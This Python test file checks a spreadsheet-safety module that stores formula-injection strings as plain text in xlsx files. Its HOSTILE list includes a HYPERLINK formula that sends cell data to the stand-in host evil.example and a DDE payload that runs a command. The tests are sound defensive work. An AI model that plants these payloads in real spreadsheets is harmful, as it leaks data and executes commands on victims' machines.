"""Text stays text: hostile strings written through toolkit.safe_xlsx are never formulas."""

from __future__ import annotations

import io

import openpyxl
import pytest

from toolkit.safe_xlsx import formula_cells, guard_workbook, set_cell, text_cell, visible_controls

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
]


def _reload(wb) -> openpyxl.Workbook:
    buf = io.BytesIO()
    wb.save(buf)
    return openpyxl.load_workbook(io.BytesIO(buf.getvalue()))


@pytest.mark.parametrize("write_only", [True, False])
def test_formula_starters_stay_text_and_round_trip(write_only):
    wb = openpyxl.Workbook(write_only=write_only)
    ws = wb.create_sheet("s")
    if write_only:
        ws.append([text_cell(ws, v) for v in HOSTILE])
    else:
        for j, value in enumerate(HOSTILE, start=1):
            set_cell(ws, 1, j, value)
    back = _reload(wb)
    cells = list(back["s"][1])
    assert [c.data_type for c in cells] == ["s"] * len(HOSTILE)
    assert [c.value for c in cells] == HOSTILE
    assert all(c.quotePrefix for c in cells)


def test_guard_workbook_turns_formulas_written_by_others_into_text():
    wb = openpyxl.Workbook()
    wb.active.append(["=1+1", "plain", 3])
    buf = io.BytesIO()
    wb.save(buf)
    assert formula_cells(io.BytesIO(buf.getvalue())) == ["Sheet!A1"]
    guard_workbook(wb)
    back = _reload(wb)
    assert [c.value for c in back.active[1]] == ["=1+1", "plain", 3]
    assert back.active["A1"].data_type == "s"


def test_control_characters_are_shown_not_fatal():
    assert visible_controls("a\x07b\x00c\tok\n") == "a\u2407b\u2400c\tok\n"
    wb = openpyxl.Workbook(write_only=True)
    ws = wb.create_sheet("s")
    ws.append([text_cell(ws, "朱某己\x0b挪用")])
    assert _reload(wb)["s"]["A1"].value == "朱某己\u240b挪用"
